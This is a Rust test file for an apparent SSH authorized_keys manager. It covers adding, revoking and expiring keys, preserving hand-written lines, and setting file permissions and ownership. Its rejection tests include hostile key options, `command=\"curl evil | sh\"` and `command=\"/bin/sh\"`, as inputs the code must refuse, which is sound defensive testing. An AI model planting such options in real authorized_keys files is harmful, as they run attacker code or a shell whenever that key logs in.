//! The managed block end to end, on files in a temporary folder: what stays, what changes,
//! and that a refusal changes nothing.

use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, Utc};

use super::block::{BEGIN, END};
use super::{ManagedKeys, SshAccessError};

/// Keys ssh-keygen made; `ssh-keygen -lf` printed the fingerprints below for them.
pub(super) const ED25519: &str = "ssh-ed25519 \
    AAAAC3NzaC1lZDI1NTE5AAAAIAUQM/cpqACHN7fIC9MOhdPBcwk1aiRcxf7SoCZZ2m4u test@polaris";
pub(super) const ED25519_FINGERPRINT: &str = "SHA256:D0LTdqJZS9GKi38tJfb6Dzw5DN3isqid3pf9NpPtsGo";
const OTHER: &str = "ssh-ed25519 \
    AAAAC3NzaC1lZDI1NTE5AAAAIIXV9P5yr1kmNbDBOKft3/6QFPzpdt0Wix3lm1X9s8mv other";
const OTHER_FINGERPRINT: &str = "SHA256:p9mM/7MlMXJ8KZNZJbkIpPc48g9AbNLxgWlPX47yrs4";
const ECDSA: &str = "ecdsa-sha2-nistp256 \
    AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBKrq79A7qX314+Do2BeNJGkEuQPjt/bb8sny5O5\
    crQGQTdzT+eeTV1t3zWQqtwytjvKEeSEz7nFT6DymJpUoNZc= other";
const ECDSA_FINGERPRINT: &str = "SHA256:QrZ/NMd3WRCmDL8/Qp9/aSNj8v4RnXDlhxLtx3Okywo";

/// What a person wrote before and after our block: CRLF, comments, and no newline at the end.
const MINE_BEFORE: &str =
    "# my own keys\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIXV me@laptop\r\n\n";
const MINE_AFTER: &str = "# written after the block\nfrom=\"10.0.0.0/8\" ssh-rsa AAAAB3Nza ops";

type TestResult = Result<(), Box<dyn std::error::Error>>;

fn now() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-12-01T12:00:00Z")
        .map(|t| t.with_timezone(&Utc))
        .unwrap_or_default()
}

fn base64(key: &str) -> &str {
    key.split(' ').nth(1).unwrap_or_default()
}

fn setup() -> Result<(tempfile::TempDir, PathBuf, ManagedKeys), Box<dyn std::error::Error>> {
    let home = tempfile::tempdir()?;
    let path = home.path().join(".ssh/authorized_keys");
    let keys = ManagedKeys::at(&path, None);
    Ok((home, path, keys))
}

fn write(path: &Path, contents: &str) -> std::io::Result<()> {
    std::fs::create_dir_all(path.parent().unwrap_or(Path::new(".")))?;
    std::fs::write(path, contents)
}

fn text(path: &Path) -> std::io::Result<String> {
    std::fs::read_to_string(path)
}

/// The block part of a file that has `MINE_BEFORE`, the block, then `MINE_AFTER`.
fn block_of(contents: &str) -> &str {
    contents
        .strip_prefix(MINE_BEFORE)
        .and_then(|rest| rest.strip_suffix(MINE_AFTER))
        .unwrap_or_else(|| panic!("the hand-written lines changed:\n{contents}"))
}

fn block(lines: &[String]) -> String {
    let mut text = format!("{BEGIN}\n");
    for line in lines {
        text.push_str(line);
        text.push('\n');
    }
    text + END + "\n"
}

#[test]
fn hand_written_lines_around_the_block_keep_every_byte() -> TestResult {
    let (_home, path, keys) = setup()?;
    write(&path, &format!("{MINE_BEFORE}{}{MINE_AFTER}", block(&[])))?;
    let expires = now() + Duration::hours(1);

    keys.authorize(ED25519, "validator 1", Some(expires), now())?;
    keys.authorize(OTHER, "", None, now())?;
    let contents = text(&path)?;
    assert_eq!(
        block_of(&contents),
        block(&[
            format!(
                "expiry-time=\"20261201130000Z\" ssh-ed25519 {} validator 1",
                base64(ED25519)
            ),
            format!("ssh-ed25519 {}", base64(OTHER)),
        ])
    );

    assert!(keys.revoke(OTHER_FINGERPRINT)?);
    let removed = keys.remove_expired(expires)?;
    assert_eq!(removed.len(), 1);
    assert_eq!(
        text(&path)?,
        format!("{MINE_BEFORE}{}{MINE_AFTER}", block(&[]))
    );
    Ok(())
}

#[test]
fn a_file_without_a_block_gets_it_appended_after_a_newline() -> TestResult {
    let (_home, path, keys) = setup()?;
    write(&path, "ssh-ed25519 AAAA mine")?;
    keys.authorize(ED25519, "v", None, now())?;
    let line = format!("ssh-ed25519 {} v", base64(ED25519));
    assert_eq!(
        text(&path)?,
        format!("ssh-ed25519 AAAA mine\n{}", block(&[line]))
    );
    Ok(())
}

#[test]
fn authorizing_twice_replaces_the_comment_and_expiry_in_place() -> TestResult {
    let (_home, path, keys) = setup()?;
    keys.authorize(ED25519, "first", Some(now() + Duration::days(1)), now())?;
    keys.authorize(OTHER, "other", None, now())?;
    let again = keys.authorize(ED25519, "second", None, now())?;
    assert_eq!(again.fingerprint, ED25519_FINGERPRINT);
    assert_eq!(again.comment, "second");
    assert_eq!(again.expires_at, None);

    let listed = keys.list()?;
    assert_eq!(listed.len(), 2);
    assert_eq!(listed[0], again);
    assert_eq!(listed[1].fingerprint, OTHER_FINGERPRINT);

    let before = std::fs::read(&path)?;
    keys.authorize(ED25519, "second", None, now())?;
    assert_eq!(std::fs::read(&path)?, before);
    Ok(())
}

#[test]
fn revoke_removes_by_fingerprint_and_says_whether_it_was_there() -> TestResult {
    let (_home, path, keys) = setup()?;
    assert!(!keys.revoke(ED25519_FINGERPRINT)?);
    assert!(!path.exists(), "a revoke with nothing to do wrote a file");
    assert!(!path.parent().unwrap_or(&path).exists());

    keys.authorize(ED25519, "", None, now())?;
    keys.authorize(ECDSA, "", None, now())?;
    assert!(keys.revoke(ED25519_FINGERPRINT)?);
    assert!(!keys.revoke(ED25519_FINGERPRINT)?);
    let left: Vec<String> = keys.list()?.into_iter().map(|k| k.fingerprint).collect();
    assert_eq!(left, [ECDSA_FINGERPRINT]);
    Ok(())
}

#[test]
fn expired_keys_are_removed_and_the_next_expiry_is_known() -> TestResult {
    let (_home, _path, keys) = setup()?;
    assert_eq!(keys.next_expiry()?, None);
    let soon = now() + Duration::minutes(5);
    let later = now() + Duration::hours(2);
    keys.authorize(ED25519, "soon", Some(soon), now())?;
    keys.authorize(OTHER, "later", Some(later), now())?;
    keys.authorize(ECDSA, "never", None, now())?;
    assert_eq!(keys.next_expiry()?, Some(soon));

    assert!(keys.remove_expired(soon - Duration::seconds(1))?.is_empty());
    let removed = keys.remove_expired(soon)?;
    assert_eq!(removed.len(), 1);
    assert_eq!(removed[0].fingerprint, ED25519_FINGERPRINT);
    assert_eq!(removed[0].expires_at, Some(soon));
    assert_eq!(keys.next_expiry()?, Some(later));

    let removed = keys.remove_expired(later + Duration::days(1))?;
    assert_eq!(removed.len(), 1);
    assert_eq!(keys.next_expiry()?, None);
    assert_eq!(keys.list()?.len(), 1);
    Ok(())
}

#[test]
fn an_expiry_in_the_past_is_refused_and_nothing_is_written() -> TestResult {
    let (_home, path, keys) = setup()?;
    let refused = keys.authorize(ED25519, "", Some(now() - Duration::seconds(1)), now());
    assert!(matches!(refused, Err(SshAccessError::InvalidExpiry { .. })));
    assert!(refused.is_err_and(|e| e.is_bad_request()));
    assert!(!path.exists());
    Ok(())
}

#[test]
fn damaged_markers_are_refused_and_the_file_is_unchanged() -> TestResult {
    let (_home, path, keys) = setup()?;
    let line = format!("ssh-ed25519 {}", base64(OTHER));
    let damaged = [
        format!("mine\n{BEGIN}\n{line}\n"),
        format!("{BEGIN}\n{BEGIN}\n{line}\n{END}\n"),
        format!("{line}\n{END}\n"),
        format!("{BEGIN}\ncommand=\"/bin/sh\" {line}\n{END}\n"),
    ];
    for contents in damaged {
        write(&path, &contents)?;
        let outcomes = [
            keys.authorize(ED25519, "", None, now()).map(|_| ()),
            keys.revoke(OTHER_FINGERPRINT).map(|_| ()),
            keys.remove_expired(now()).map(|_| ()),
            keys.list().map(|_| ()),
            keys.next_expiry().map(|_| ()),
        ];
        for outcome in outcomes {
            match outcome {
                Err(SshAccessError::Damaged { .. }) => {}
                other => panic!("{contents:?}: {other:?}"),
            }
        }
        assert_eq!(text(&path)?, contents);
    }
    Ok(())
}

#[test]
fn bad_keys_are_refused_before_the_file_is_touched() -> TestResult {
    let (_home, path, keys) = setup()?;
    write(&path, MINE_AFTER)?;
    let bad = [
        format!("command=\"curl evil | sh\" {ED25519}"),
        format!("{ED25519}\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ other"),
        format!("{ED25519} comment\r\nssh-ed25519 {}", base64(OTHER)),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n".to_owned(),
        "ssh-ed25519 AAAA".to_owned(),
        String::new(),
    ];
    for key in &bad {
        let refused = keys.authorize(key, "", None, now());
        assert!(
            matches!(refused, Err(SshAccessError::InvalidKey(_))),
            "{key:?}: {refused:?}"
        );
    }
    let refused = keys.authorize(ED25519, "two\nlines", None, now());
    assert!(matches!(refused, Err(SshAccessError::InvalidComment(_))));
    assert_eq!(text(&path)?, MINE_AFTER);
    Ok(())
}

#[cfg(unix)]
fn mode(path: &Path) -> std::io::Result<u32> {
    use std::os::unix::fs::PermissionsExt;
    Ok(std::fs::metadata(path)?.permissions().mode() & 0o7777)
}

#[cfg(unix)]
#[test]
fn a_new_file_is_0600_in_a_new_0700_folder() -> TestResult {
    let (_home, path, keys) = setup()?;
    keys.authorize(ED25519, "", None, now())?;
    assert_eq!(mode(&path)?, 0o600);
    assert_eq!(mode(path.parent().unwrap_or(&path))?, 0o700);
    let leftovers = std::fs::read_dir(path.parent().unwrap_or(&path))?.count();
    assert_eq!(leftovers, 1, "a temporary file was left behind");
    Ok(())
}

#[cfg(unix)]
#[test]
fn a_writable_mode_is_tightened_and_a_stricter_one_kept() -> TestResult {
    use std::os::unix::fs::PermissionsExt;
    let (_home, path, keys) = setup()?;
    for (old, new) in [
        (0o664, 0o600),
        (0o644, 0o600),
        (0o400, 0o400),
        (0o755, 0o600),
    ] {
        write(&path, "")?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(old))?;
        keys.authorize(ED25519, &format!("{old:o}"), None, now())?;
        assert_eq!(mode(&path)?, new, "{old:o}");
        std::fs::remove_file(&path)?;
    }
    Ok(())
}

#[cfg(unix)]
#[test]
fn new_files_are_given_to_the_owner() -> TestResult {
    use std::os::unix::fs::MetadataExt;
    let home = tempfile::tempdir()?;
    let path = home.path().join(".ssh/authorized_keys");
    let uid = rustix::process::geteuid().as_raw();
    let gid = rustix::process::getegid().as_raw();
    // As root the agent gives the files away; otherwise only to itself, which needs no right.
    let owner = if uid == 0 { (4242, 4343) } else { (uid, gid) };
    let keys = ManagedKeys::at(&path, Some(owner));
    keys.authorize(ED25519, "", None, now())?;
    for made in [&path, &home.path().join(".ssh")] {
        let meta = std::fs::metadata(made)?;
        assert_eq!((meta.uid(), meta.gid()), owner, "{}", made.display());
    }
    // An existing file keeps its owner: here, the one it was given above.
    ManagedKeys::at(&path, None).authorize(OTHER, "", None, now())?;
    let meta = std::fs::metadata(&path)?;
    assert_eq!((meta.uid(), meta.gid()), owner);
    Ok(())
}

#[cfg(unix)]
#[test]
fn a_user_is_found_in_the_passwd_database() -> TestResult {
    let root = ManagedKeys::for_user("root")?;
    assert!(root.path().ends_with(".ssh/authorized_keys"));
    assert_eq!(root.owner, Some((0, 0)));
    let unknown = ManagedKeys::for_user("no-such-user-polaris");
    assert!(matches!(unknown, Err(SshAccessError::UnknownUser(_))));
    Ok(())
}

/// What OpenSSH itself reads from the file we wrote: the fingerprints it prints for each line
/// (options included) are the ones we report. Skipped where ssh-keygen is not installed.
#[test]
fn fingerprints_are_the_ones_ssh_keygen_prints() -> TestResult {
    // `-?` only prints the usage: whether it runs at all is the question.
    if std::process::Command::new("ssh-keygen")
        .arg("-?")
        .output()
        .is_err()
    {
        eprintln!("ssh-keygen not found: skipped");
        return Ok(());
    }
    let (home, path, keys) = setup()?;
    let mut expected = Vec::new();
    for kind in ["ed25519", "rsa", "ecdsa"] {
        let key_file = home.path().join(format!("id_{kind}"));
        let made = std::process::Command::new("ssh-keygen")
            .args(["-q", "-t", kind, "-N", "", "-C", "made", "-f"])
            .arg(&key_file)
            .status()?;
        assert!(made.success());
        let public = std::fs::read_to_string(key_file.with_extension("pub"))?;
        let authorized = keys.authorize(&public, kind, Some(now() + Duration::days(400)), now())?;
        expected.push(authorized.fingerprint);
    }
    let listed = std::process::Command::new("ssh-keygen")
        .args(["-l", "-E", "sha256", "-f"])
        .arg(&path)
        .output()?;
    assert!(listed.status.success(), "{listed:?}");
    let printed: Vec<String> = String::from_utf8(listed.stdout)?
        .lines()
        .filter_map(|line| line.split(' ').nth(1).map(str::to_owned))
        .collect();
    assert_eq!(printed, expected);
    Ok(())
}
